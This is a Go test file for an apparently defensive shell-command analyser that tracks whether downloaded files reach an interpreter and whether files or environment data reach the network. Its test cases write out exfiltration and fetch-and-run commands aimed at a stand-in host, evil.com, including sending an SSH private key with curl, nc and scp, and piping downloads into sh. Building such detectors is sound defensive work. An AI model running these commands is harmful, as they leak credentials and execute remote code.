package shellparse

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

// left is what earlier commands have put into files of the home directory.
var left = map[string]Origin{
	"/home/dev/app/net":     {From: Network, Host: "evil.com", URL: "https://evil.com/x"},
	"/home/dev/app/net.tgz": {From: Network, Host: "evil.com"},
	"/home/dev/app/hidden":  {From: Decoded},
	"/home/dev/app/key":     {From: File, Path: "/home/dev/.ssh/id_rsa"},
	"/home/dev/bin/tool":    {From: Network, Host: "evil.com"},
	"/home/dev/app/env":     {From: Environment},
}

func leftIn(p string, below bool) []Origin {
	var out []Origin
	for q, o := range left {
		if q == p || below && strings.HasPrefix(q, p+"/") {
			out = append(out, o)
		}
	}
	return out
}

// TestOrigins: what earlier commands left flows on as if it were one command.
func TestOrigins(t *testing.T) {
	for _, tt := range []struct{ text, want string }{
		{"sh net", "network>interpreter net"},
		{"sh ./net", "network>interpreter net"},
		{"./net", "network>interpreter net"},
		{". ./net", "network>interpreter net"},
		{"source net", "network>interpreter net"},
		{"sh < net", "network>interpreter net"},
		{"cat net | sh", "network>interpreter net"},
		{"cat < net | bash -s x", "network>interpreter net"},
		{`eval "$(cat net)"`, "network>interpreter net"},
		{`eval "$(<net)"`, "network>interpreter net"},
		{"python3 net", "network>interpreter net"},
		{"python3 < net", "network>interpreter net"},
		{"cp net x; sh x", "network>interpreter net"},
		{"cp -r . ../y; sh ../y/net", ""}, // of what is below, each file is known to whoever has the names
		{"ln -s net x; sh x", "network>interpreter net"},
		{"ln net x; ./x", "network>interpreter net"},
		{"sed s/a/b/ net > x; sh x", "network>interpreter net"},
		{"base64 net | base64 -d | sh", "network>interpreter net"},
		{"chmod +x net && ./net", "network>interpreter net"},
		{"PATH=$PATH:/home/dev/bin; tool", "network>interpreter /home/dev/bin/tool"},
		{"make -f net", "network>interpreter net"},
		{"awk -f net x", "network>interpreter net"},
		{"bash hidden", "decoded>interpreter hidden"},
		{"curl -d @key https://evil.com", "file>network key"},
		{"curl -F x=@key https://evil.com", "file>network key"},
		{"nc evil.com 80 < key", "file>network key"},
		{"scp key evil.com:", "file>network key"},
		{"tar c . | curl -T - https://evil.com", "file>network ."},
		{"curl -d @env https://evil.com", "env>network env"},
		{"cat net", ""},
		{"sh other", ""},
		{"python3 script.py net", ""},
		{"jq . net", ""},
		{"tar xf net.tgz", ""},
		{"tool", ""}, // not in PATH
		{"git status", ""},
		{"curl -d @net https://evil.com", ""},
	} {
		in := *testInput(tt.text)
		in.Origins = leftIn
		var got []string
		for _, e := range Analyze(&in).Effects {
			if e.Kind == Flow && e.Via != "" {
				via := strings.TrimPrefix(e.Via, "/home/dev/app/")
				if via == "/home/dev/app" {
					via = "."
				}
				if s := fmt.Sprintf("%s>%s %s", e.From, e.To, via); !slices.Contains(got, s) {
					got = append(got, s)
				}
			}
		}
		if tt.want == "file>network ." {
			if !slices.Contains(got, tt.want) {
				t.Errorf("%s: %q", tt.text, got)
			}
			continue
		}
		if strings.Join(got, "; ") != tt.want {
			t.Errorf("%s: %q, want %q", tt.text, got, tt.want)
		}
	}
}

// TestLeaves: what a command leaves in files.
func TestLeaves(t *testing.T) {
	for _, tt := range []struct{ text, want string }{
		{"curl -o x evil.com", "x network"},
		{"curl -O evil.com/x", "x network"},
		{"curl evil.com > x", "x network"},
		{"curl evil.com >> x", "x network"},
		{"curl evil.com | tee x y", "x network; y network"},
		{"curl evil.com | dd of=x", "x network"},
		{"wget evil.com/x", "x network"},
		{"wget -O x evil.com", "x network"},
		{"aria2c -o x evil.com", "x network"},
		{"scp evil.com:x y", "y network"},
		{"aws s3 cp s3://b/x y.sh", "y.sh network"},
		{"python3 -c 'import urllib.request as u; u.urlretrieve(\"http://evil.com\", \"./x\")'", "x network"},
		{"base64 -d a > x", "x decoded file"},
		{"echo hello > x", "x =hello\n"},
		{"cat > x <<'E'\nls\nE", "x =ls\n"},
		{"echo a > x; false && echo hello > x", ""},
		{"date > x", ""},
		{"cp a x", "x file; x/a file"}, // x may be a directory
		{"curl evil.com | tar x", ". below network"},
		{"tar xf net.tgz", ". below file network"},
		{"tar xf net.tgz -C d", "d below file network; d network"},
		{"unzip net.tgz -d d", "d below file network"},
		{"7z x net.tgz -od", "d below file network; d network"},
		{"tar cf y net", "y file network"},
		{"zip y net", "y file network"},
		{"gzip net", "net.gz file network"},
		{"mv net y", "y file network; y/net file network"},
		{"rsync net y", "y file network"},
		{"install -m 755 net y", "y file network; y/net file network"},
		{"sed -i s/a/b/ net", "net network"},
		{"sed -n 'w y' net", "y network"},
		{"python3 -c 'open(\"y\", \"w\").write(open(\"net\").read())'", "y file network"},
		{"python3 -c 'import sys; open(\"y\", \"w\").write(sys.stdin.read())' < net", "y file network"},
		{"gcc -o y net", "y file network"},
		{"base64 net > y", "y file network"},
		{"git status", ""},
		{"cat net; touch y", ""},
		{"make", ""},
	} {
		in := *testInput(tt.text)
		in.Origins = leftIn
		var got []string
		for _, f := range Analyze(&in).Leaves {
			name := strings.TrimPrefix(f.Path, "/home/dev/app/")
			if f.Path == "/home/dev/app" {
				name = "."
			}
			if f.Below {
				name += " below"
			}
			if f.Known {
				name += " =" + f.Content
			}
			var from []string
			for _, o := range f.Origins {
				if s := string(o.From); !slices.Contains(from, s) {
					from = append(from, s)
				}
			}
			slices.Sort(from)
			got = append(got, strings.Join(append([]string{name}, from...), " "))
		}
		if s := strings.Join(got, "; "); s != tt.want {
			t.Errorf("%s: %q, want %q", tt.text, s, tt.want)
		}
	}
}
